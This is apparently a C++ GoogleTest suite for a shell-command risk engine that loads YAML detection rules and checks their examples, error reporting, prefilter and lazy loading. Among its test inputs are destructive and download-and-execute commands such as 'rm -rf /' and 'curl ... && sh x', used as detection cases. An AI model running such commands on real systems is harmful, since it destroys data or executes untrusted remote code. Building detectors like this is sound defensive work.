// Rule packs: every built-in example holds; bad rules are reported with
// file:line and rule id; user rule files load.
#include <gtest/gtest.h>

#include <cctype>
#include <cstdio>
#include <fstream>

#include "risk/builtin_rules.hpp"
#include "risk/engine_test_util.hpp"
#include "risk/rules.hpp"

namespace vg::risk {
namespace {

TEST(Rules, BuiltInExamplesAllHold) {
  config::Config cfg;
  auto e = Engine::create(cfg, true);
  EXPECT_TRUE(e.ok()) << (e.ok() ? "" : e.error().message);
}

TEST(Rules, InvalidPatternNamesFileLineAndRule) {
  RuleSet set;
  ASSERT_TRUE(set.load("bad.yaml", "rules:\n  - id: x.bad\n    level: high\n    description: d\n    pattern: '(('\n").ok());
  const Rule& r = *set.rules()[0];
  EXPECT_FALSE(r.compile());
  EXPECT_EQ(r.where(), "bad.yaml:2:5: rule x.bad");
}

TEST(Rules, MalformedFilesAreErrors) {
  RuleSet set;
  auto r = set.load("f.yaml", "rules:\n  - id: a\n    level: severe\n    description: d\n    pattern: x\n");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("f.yaml:3:"), std::string::npos) << r.error().message;
  r = set.load("g.yaml", "rules:\n  - id: a\n    levle: high\n");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().message.find("unknown rule key 'levle'"), std::string::npos);
  r = set.load("h.yaml", "rules: [\n");
  EXPECT_FALSE(r.ok());
}

TEST(Rules, FailingExampleIsReportedAndUserFilesLoad) {
  std::string path = ::testing::TempDir() + "vg_user_rules.yaml";
  {
    std::ofstream out(path);
    out << "rules:\n  - id: user.npm_publish\n    level: high\n    description: publishes a package\n"
           "    commands: [npm]\n    pattern: '\\spublish'\n    examples:\n      match: ['npm publish']\n"
           "      not_match: ['npm test']\n";
  }
  config::Config cfg;
  cfg.rules.paths = {path};
  auto e = Engine::create(cfg, true);
  ASSERT_TRUE(e.ok()) << e.error().message;
  EXPECT_EQ((*e)->assess_script("cd x && npm publish").level, Level::high);
  {
    std::ofstream out(path);
    out << "rules:\n  - id: user.bad\n    level: high\n    description: d\n    commands: [npm]\n"
           "    pattern: 'publish'\n    examples:\n      match: ['npm test']\n";
  }
  auto bad = Engine::create(cfg, true);
  ASSERT_FALSE(bad.ok());
  EXPECT_NE(bad.error().message.find(path + ":2:5: rule user.bad: example `npm test` should match"), std::string::npos)
      << bad.error().message;
  std::remove(path.c_str());
}

TEST(Rules, CriticalRulesCannotBeDisabled) {
  config::Config cfg;
  cfg.rules.disable = {"fs.wipe.root", "vcs.push_force"};
  auto e = Engine::create(cfg);
  ASSERT_TRUE(e.ok());
  EXPECT_EQ((*e)->assess_script("rm -rf /").level, Level::critical);
  // The rule is off; what is left is the push's own effect (it changes a remote).
  auto push = (*e)->assess_script("git push --force");
  EXPECT_EQ(push.level, Level::medium);
  for (const auto& f : push.findings) EXPECT_NE(f.rule, "vcs.push_force");
}

// The literal prefilter (needs_any, from RE2 at build time) lets vg skip
// compiling rules that cannot apply; it must never hide a match.
TEST(Rules, LiteralPrefilterSkipsOnlyRulesThatCannotMatch) {
  RuleSet rules;
  ASSERT_TRUE(rules.load_blob(builtin_rules_blob(), true).ok());
  // The script rule that applies to every command: `true` cannot match it,
  // any spelling of curl or wget might, and non-ASCII text is never judged.
  const Rule* download = nullptr;
  for (const auto& r : rules.rules())
    if (r->id == "remote.download_exec") download = r.get();
  ASSERT_NE(download, nullptr);
  EXPECT_FALSE(download->may_match("true"));
  EXPECT_FALSE(download->may_match("git status"));
  EXPECT_TRUE(download->may_match("curl -o x https://e.example/i.sh && sh x"));
  EXPECT_TRUE(download->may_match("CURL -o x"));
  EXPECT_TRUE(download->may_match("w\xc3\xa9get"));
  EXPECT_FALSE(download->compiled);  // judged without compiling its pattern

  std::size_t filtered = 0, matched = 0;
  for (const auto& r : rules.rules()) {
    if (r->needs_any.empty()) continue;
    ++filtered;
    std::vector<std::string> texts = r->match_examples;
    texts.insert(texts.end(), r->not_match_examples.begin(), r->not_match_examples.end());
    for (std::size_t i = 0, n = texts.size(); i < n; ++i) {
      std::string upper = texts[i];
      for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
      texts.push_back(upper);
    }
    for (const auto& t : texts) {
      if (!r->matches(t)) continue;
      ++matched;
      EXPECT_TRUE(r->may_match(t)) << r->id << ": " << t;
    }
  }
  EXPECT_GT(filtered, rules.rules().size() / 2);
  EXPECT_GT(matched, filtered);  // the property was put to the test
}

// Without examples, a built-in rule's description, file and patterns stay in
// the blob until first used; then they are what a full read gives.
TEST(Rules, BuiltInRulesAreReadWhenFirstUsed) {
  RuleSet eager, lazy;
  ASSERT_TRUE(eager.load_blob(builtin_rules_blob(), true).ok());
  ASSERT_TRUE(lazy.load_blob(builtin_rules_blob(), false).ok());
  ASSERT_EQ(eager.rules().size(), lazy.rules().size());
  for (std::size_t i = 0; i < eager.rules().size(); ++i) {
    const Rule& e = *eager.rules()[i];
    const Rule& l = *lazy.rules()[i];
    EXPECT_EQ(e.id, l.id);
    EXPECT_EQ(e.commands, l.commands);
    EXPECT_FALSE(l.unread.empty()) << l.id;
    EXPECT_TRUE(l.description.empty()) << l.id;
    EXPECT_EQ(e.where(), l.where());  // reads the rest
    EXPECT_TRUE(l.unread.empty()) << l.id;
    EXPECT_EQ(e.description, l.description);
    EXPECT_EQ(e.all, l.all);
    EXPECT_EQ(e.none, l.none);
    EXPECT_EQ(e.needs_any, l.needs_any);
    EXPECT_TRUE(l.compile()) << l.broken;
  }
}

}  // namespace
}  // namespace vg::risk
